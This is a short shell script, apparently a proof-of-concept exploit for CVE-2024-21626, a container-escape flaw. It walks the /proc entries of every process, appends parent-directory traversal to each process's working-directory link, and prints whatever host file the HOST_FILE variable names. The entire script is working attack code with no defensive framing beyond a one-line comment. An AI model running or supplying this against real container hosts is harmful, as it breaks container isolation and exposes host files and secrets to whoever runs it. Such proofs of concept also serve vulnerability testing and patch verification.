#!/bin/sh
# Reads a file of the machine from the working directory of any process (CVE-2024-21626).
for process in /proc/[0-9]* /proc/self; do
  for up in "" /../../../../../../../..; do
    cat "$process/cwd$up$HOST_FILE" 2> /dev/null && exit 0
  done
done
echo "no working directory leads there"
exit 1
